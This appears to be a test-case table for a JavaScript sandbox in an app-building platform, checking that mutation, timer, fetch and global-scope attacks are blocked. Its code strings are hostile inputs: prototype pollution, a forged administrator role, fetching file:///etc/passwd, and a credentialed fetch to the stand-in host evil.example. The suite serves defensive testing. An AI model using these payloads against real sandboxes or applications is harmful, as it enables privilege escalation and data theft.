  { id: 'framework-function-prototype', category: 'endowment', where: 'binding', code: attempt('(Object.getPrototypeOf(storeValue).polluted = 1)'), expect: 'threw' },
  { id: 'framework-function-replace-prototype', category: 'endowment', where: 'binding', code: attempt('Object.setPrototypeOf(showAlert, null)'), expect: 'threw' },
  { id: 'query-run-replace', category: 'endowment', where: 'binding', code: attempt('(Query1.run = () => [])'), expect: 'threw' },
  { id: 'query-run-property', category: 'endowment', where: 'binding', code: attempt("(Query1.run.evil = 'yes')"), expect: 'threw' },
  { id: 'query-define-data', category: 'endowment', where: 'binding', code: attempt("Object.defineProperty(Query1, 'data', { value: [] })"), expect: 'threw' },
  { id: 'cordon-define-user', category: 'endowment', where: 'binding', code: attempt("Object.defineProperty(cordon, 'user', { value: { role: 'administrator' } })"), expect: 'threw' },
  { id: 'cordon-setPrototypeOf', category: 'endowment', where: 'binding', code: attempt('Object.setPrototypeOf(cordon, { evil: 1 })'), expect: 'threw' },
  { id: 'cordon-url-query-mutate', category: 'endowment', where: 'handler', code: "try { cordon.url.query.x = 'evil'; return 'mutated'; } catch (e) { return 'threw'; }", expect: 'threw' },
  { id: 'js-object-function-replace', category: 'endowment', where: 'binding', code: attempt('(JSObject1.total = () => 0)'), expect: 'threw' },
  { id: 'js-object-define-key', category: 'endowment', where: 'binding', code: attempt("Object.defineProperty(JSObject1, 'evil', { value: 1 })"), expect: 'threw' },
  { id: 'setter-function-property', category: 'endowment', where: 'binding', code: attempt("(Input1.setValue.evil = 'yes')"), expect: 'threw' },
  { id: 'store-nested-mutate', category: 'endowment', where: 'handler', code: "await storeValue('n', { a: { b: 1 } }, false); try { cordon.store.n.a.b = 2; return 'mutated'; } catch (e) { return 'threw'; }", expect: 'threw' },
  { id: 'stored-value-is-a-copy', category: 'endowment', where: 'handler', code: "const mine = { a: 1 }; await storeValue('c', mine, false); mine.a = 2; return cordon.store.c.a;", expect: 1 },

  // Timers: only functions, bounded counts, coerced delays and ids.
  { id: 'interval-in-binding', category: 'timer', where: 'binding', code: attempt('setInterval(() => 0, 10)'), expect: 'threw' },
  { id: 'interval-negative-ms', category: 'timer', where: 'handler', code: "const id = setInterval(() => 0, -5, 'neg'); clearInterval(id); return id;", expect: 'neg' },
  { id: 'interval-nan-ms', category: 'timer', where: 'handler', code: "const id = setInterval(() => 0, NaN, 'nan'); clearInterval(id); return id;", expect: 'nan' },
  { id: 'interval-object-callback', category: 'timer', where: 'handler', code: "try { setInterval({ toString() { return 'globalThis.leaked = 1'; } }, 10, 'o'); return 'scheduled'; } catch (e) { return 'threw'; }", expect: 'threw' },
  { id: 'interval-object-id', category: 'timer', where: 'handler', code: "const id = setInterval(() => 0, 1000, { toString() { return 'obj'; } }); clearInterval('obj'); return id;", expect: 'obj' },
  { id: 'interval-throwing-id', category: 'timer', where: 'handler', code: "try { setInterval(() => 0, 1000, { toString() { throw new Error('boom'); } }); return 'scheduled'; } catch (e) { return 'threw'; }", expect: 'threw' },
  { id: 'interval-ms-valueOf-object', category: 'timer', where: 'handler', code: "try { const id = setInterval(() => 0, { valueOf() { return globalThis; } }, 'v'); clearInterval(id); return id; } catch (e) { return 'threw'; }" },
  { id: 'interval-huge-ms', category: 'timer', where: 'handler', code: "const id = setInterval(() => 0, 1e300, 'huge'); clearInterval(id); return id;", expect: 'huge' },
  { id: 'interval-infinity-ms', category: 'timer', where: 'handler', code: "const id = setInterval(() => 0, Infinity, 'inf'); clearInterval(id); return id;", expect: 'inf' },
  { id: 'interval-replace-same-id', category: 'timer', where: 'handler', code: "for (let i = 0; i < 500; i++) setInterval(() => 0, 1000, 'same'); clearInterval('same'); return 'ok';", expect: 'ok' },

  // fetch: no credentials, no cookies, no scheme other than http(s), whatever the arguments.
  { id: 'fetch-file-scheme', category: 'fetch', where: 'handler', code: fetchScheme('file:///etc/passwd'), expect: 'refused' },
  { id: 'fetch-data-scheme', category: 'fetch', where: 'handler', code: fetchScheme('data:text/plain,hello'), expect: 'refused' },
  { id: 'fetch-blob-scheme', category: 'fetch', where: 'handler', code: fetchScheme('blob:http://127.0.0.1/1234'), expect: 'refused' },
  { id: 'fetch-javascript-scheme', category: 'fetch', where: 'handler', code: fetchScheme('javascript:postMessage(1)'), expect: 'refused' },
  { id: 'fetch-ws-scheme', category: 'fetch', where: 'handler', code: fetchScheme('ws://127.0.0.1/'), expect: 'refused' },
  { id: 'fetch-upper-case-file', category: 'fetch', where: 'handler', code: fetchScheme(' FILE:///etc/passwd'), expect: 'refused' },
  { id: 'fetch-in-binding', category: 'fetch', where: 'binding', code: attempt("fetch('http://127.0.0.1:9/')"), expect: 'threw' },
  { id: 'fetch-credentials-include', category: 'fetch', where: 'handler', code: fetchWith("{ credentials: 'include' }"), expect: 'sent' },
  { id: 'fetch-cookie-headers', category: 'fetch', where: 'handler', code: fetchWith("{ headers: { Cookie: 'a=1', cookie: 'b=2', COOKIE2: 'c', 'Set-Cookie': 'd=4' } }"), expect: 'sent' },
  { id: 'fetch-no-cors-mode', category: 'fetch', where: 'handler', code: fetchWith("{ mode: 'no-cors', referrer: 'http://evil.example/', keepalive: true, redirect: 'manual' }"), expect: 'sent' },
  { id: 'fetch-credentials-getter', category: 'fetch', where: 'handler', code: fetchWith("{ get credentials() { return 'include'; }, headers: [['Cookie', 'x=1']] }"), expect: 'sent' },
  { id: 'fetch-body-getter', category: 'fetch', where: 'handler', code: fetchWith("{ method: 'POST', body: { get secret() { return globalThis; }, plain: 1 } }"), expect: 'sent' },
  { id: 'fetch-protocol-relative', category: 'fetch', where: 'handler', code: "try { await fetch('//evil.example/x', { credentials: 'include' }); } catch (e) { /* no network */ } return 'sent';", expect: 'sent' },
  { id: 'fetch-result-is-plain', category: 'fetch', where: 'handler', code: "const p = fetch('file:///x'); return [Object.getPrototypeOf(p) === Promise.prototype, await p.then(() => 'ok', (e) => Object.getPrototypeOf(e) === Error.prototype)];", expect: [true, true] },

  // Worker globals by every route: scope, prototype chain, enumeration, callbacks' this.
  { id: 'platform-typeof', category: 'platform', where: 'binding', code: '[typeof Event, typeof EventTarget, typeof MessageChannel, typeof Blob, typeof URL, typeof DOMException, typeof WebAssembly, typeof SharedArrayBuffer, typeof Atomics]', expect: Array.from({ length: 9 }, () => 'undefined') },
  { id: 'text-encoder-is-hardened', category: 'platform', where: 'binding', code: "typeof TextEncoder === 'undefined' || (Object.isFrozen(TextEncoder) && Object.isFrozen(TextEncoder.prototype))", expect: true },
  { id: 'text-encoder-prototype-mutate', category: 'platform', where: 'binding', code: attempt('(TextEncoder.prototype.encode = () => 1)'), expect: 'threw' },
  { id: 'global-prototype-chain', category: 'globals', where: 'binding', code: "(() => { const found = []; let o = globalThis; while ((o = Object.getPrototypeOf(o))) found.push(Object.getOwnPropertyNames(o).includes('postMessage')); return found; })()", expect: [false] },
  { id: 'global-constructor-is-object', category: 'globals', where: 'binding', code: 'globalThis.constructor === Object', expect: true },
  { id: 'global-event-handlers', category: 'globals', where: 'binding', code: "Reflect.ownKeys(globalThis).filter((k) => typeof k === 'string' && /^(on|webkit)/.test(k))", expect: [] },
  { id: 'atomics-has', category: 'globals', where: 'binding', code: "[Reflect.has(globalThis, 'Atomics'), Reflect.has(globalThis, 'SharedArrayBuffer'), Reflect.has(globalThis, 'WebAssembly')]", expect: [false, false, false] },
  { id: 'promise-callback-this', category: 'scope', where: 'handler', code: 'return await Promise.resolve().then(function () { return typeof this; });', expect: 'undefined' },
  { id: 'array-callback-this', category: 'scope', where: 'binding', code: '[1].map(function () { return typeof this; })', expect: ['undefined'] },
  { id: 'getter-global-descriptor', category: 'globals', where: 'binding', code: "(() => { const d = Object.getOwnPropertyDescriptor(globalThis, 'Input1'); return [d.writable, d.configurable, typeof d.get]; })()", expect: [false, false, 'undefined'] },
];
